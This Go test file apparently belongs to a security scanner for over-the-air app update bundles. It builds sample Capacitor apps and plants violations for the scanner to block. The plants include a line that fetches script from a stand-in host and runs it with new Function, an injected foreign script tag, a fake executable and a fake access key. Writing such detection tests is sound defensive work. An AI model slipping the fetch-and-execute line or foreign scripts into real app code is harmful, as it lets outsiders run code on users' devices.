package corpus

import (
	"bytes"
	"context"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/waxwing-ota/waxwing/internal/core/scan"
)

// plugins are the native plug-ins that each app's code names.
var plugins = map[string][]string{
	"angular":     {"Camera", "CapacitorUpdater"},
	"ionic-react": {"App", "Camera", "CapacitorUpdater", "Haptics", "Keyboard", "Preferences", "StatusBar"},
	"ionic-vue":   {"App", "Camera", "CapacitorUpdater", "Haptics", "Keyboard", "Preferences", "StatusBar"},
	"react":       {"Camera", "CapacitorUpdater"},
	"svelte":      {"CapacitorUpdater", "PushNotifications"},
	"vue":         {"CapacitorUpdater", "Geolocation"},
}

// built makes the builds, once, and returns their folder. They are kept in the
// user's cache, or where WAXWING_CORPUS_CACHE says.
func built(t *testing.T) string {
	t.Helper()
	if os.Getenv("WAXWING_CORPUS") != "1" {
		t.Skip("LOUD: WAXWING_CORPUS is not 1: no real builds are made and scanned (they need npm and its registry)")
	}
	if _, err := exec.LookPath("npm"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("WAXWING_CORPUS is 1, and npm is not on PATH")
		}
		t.Skip("LOUD: no npm here: no real builds are made and scanned")
	}
	dir := os.Getenv("WAXWING_CORPUS_CACHE")
	if dir == "" {
		cache, err := os.UserCacheDir()
		if err != nil { // no home: then for this run only
			cache = t.TempDir()
		}
		dir = filepath.Join(cache, "waxwing", "corpus")
	}
	names := slices.Sorted(maps.Keys(plugins))
	// Two at a time: installing waits for the network, building for the processor.
	half := len(names) / 2
	errs := make(chan error)
	for _, part := range [][]string{names[:half], names[half:]} {
		go func() { errs <- build(t.Context(), dir, part) }()
	}
	for range 2 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
	if t.Failed() {
		t.FailNow()
	}
	return dir
}

func build(ctx context.Context, dir string, names []string) error {
	if out, err := exec.CommandContext(ctx, "./build", append([]string{dir}, names...)...).CombinedOutput(); err != nil {
		return fmt.Errorf("build %v: %w\n%s", names, err, out)
	}
	return nil
}

func TestCleanBuildsPass(t *testing.T) {
	dir := built(t)
	for name, natives := range plugins {
		t.Run(name, func(t *testing.T) {
			rep := scanned(t, load(t, filepath.Join(dir, name)), natives)
			if len(rep.Files) < 3 || rep.Bytes < 200_000 {
				t.Fatalf("that is no build: %d files, %d bytes", len(rep.Files), rep.Bytes)
			}
			warnings := map[string]int{}
			for _, f := range rep.Findings {
				switch {
				case f.Severity == scan.Block:
					t.Errorf("%s blocks at %s:%d: %s\n%s", f.Rule, f.Path, f.Line, f.Message, f.Snippet)
				case f.Rule == "ST-900":
					t.Errorf("%s was not read: %s", f.Path, f.Message)
				default:
					warnings[f.Rule]++
				}
			}
			t.Logf("%d files, %d KiB: 0 block; others by rule: %v", len(rep.Files), rep.Bytes>>10, warnings)
			if d := missing(rep.Facts.Plugins, natives); len(d) > 0 {
				t.Errorf("plug-ins that the code names and the scanner did not see: %v (saw %v)", d, rep.Facts.Plugins)
			}
		})
	}
}

// TestPlantedViolationsBlock plants what must not pass into the same builds: an
// answer of nothing found is worth something only if the files were read.
func TestPlantedViolationsBlock(t *testing.T) {
	dir := built(t)
	for name, natives := range plugins {
		t.Run(name, func(t *testing.T) {
			clean := load(t, filepath.Join(dir, name))
			for _, p := range plants {
				files := maps.Clone(clean)
				at := p.plant(files)
				rep := scanned(t, files, natives)
				if !slices.ContainsFunc(rep.Findings, func(f scan.Finding) bool {
					return f.Rule == p.rule && f.Severity == scan.Block && f.Path == at
				}) {
					t.Errorf("%s: %s is not found in %s", p.rule, p.what, at)
				}
			}
			for _, lost := range natives {
				rest := slices.DeleteFunc(slices.Clone(natives), func(n string) bool { return n == lost })
				rep := scanned(t, clean, rest)
				if !slices.ContainsFunc(rep.Findings, func(f scan.Finding) bool {
					return f.Rule == "ST-006" && f.Severity == scan.Block && strings.Contains(f.Message, lost)
				}) {
					t.Errorf("ST-006: that the native build lacks %s is not found", lost)
				}
			}
		})
	}
}

// plants change a build, and say in which file.
var plants = []struct {
	rule, what string
	plant      func(files map[string][]byte) string
}{
	{"ST-001", "an executable", func(files map[string][]byte) string {
		files["assets/helper.dat"] = append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...)
		return "assets/helper.dat"
	}},
	{"ST-003", "code from the network", func(files map[string][]byte) string {
		return appendTo(files, ";(async()=>{const a=await fetch('https://api.acme.test/x');new Function(await a.text())()})();")
	}},
	{"ST-004", "a script of another host", func(files map[string][]byte) string {
		files["index.html"] = bytes.Replace(files["index.html"], []byte("</body>"), []byte(`<script src="https://cdn.example.org/x.js"></script></body>`), 1)
		return "index.html"
	}},
	{"ST-005", "another updater", func(files map[string][]byte) string {
		return appendTo(files, `;Capacitor.Plugins.OtherUpdater.set({id:"x"});`)
	}},
	{"ST-016", "a key", func(files map[string][]byte) string {
		return appendTo(files, `;var k="`+"AKIA"+`Q3EGRIYKQF7ZLT2W";`)
	}},
	{"WB-005", "an address without encryption", func(files map[string][]byte) string {
		return appendTo(files, ";fetch('http://api.acme.test/orders');")
	}},
	{"WB-011", "a service worker", func(files map[string][]byte) string {
		return appendTo(files, ";navigator.serviceWorker.register('/sw.js');")
	}},
}

// appendTo adds to the largest script, on its last line.
func appendTo(files map[string][]byte, code string) string {
	largest := ""
	for name, data := range files {
		if strings.HasSuffix(name, ".js") && (largest == "" || len(data) > len(files[largest]) || len(data) == len(files[largest]) && name < largest) {
			largest = name
		}
	}
	files[largest] = append(bytes.TrimRight(files[largest], "\n"), code...)
	return largest
}

func load(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	files := map[string][]byte{}
	root := os.DirFS(dir)
	entries, err := scan.FromFS(root)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if files[e.Path], err = os.ReadFile(filepath.Join(dir, e.Path)); err != nil {
			t.Fatal(err)
		}
	}
	return files
}

func scanned(t *testing.T, files map[string][]byte, natives []string) *scan.Report {
	t.Helper()
	var entries []scan.Entry
	for _, name := range slices.Sorted(maps.Keys(files)) {
		entries = append(entries, scan.FromBytes(name, files[name]))
	}
	rep, err := scan.Run(t.Context(), entries, scan.Options{Native: &scan.Native{Plugins: natives}})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func missing(have, want []string) []string {
	return slices.DeleteFunc(slices.Clone(want), func(n string) bool { return slices.Contains(have, n) })
}
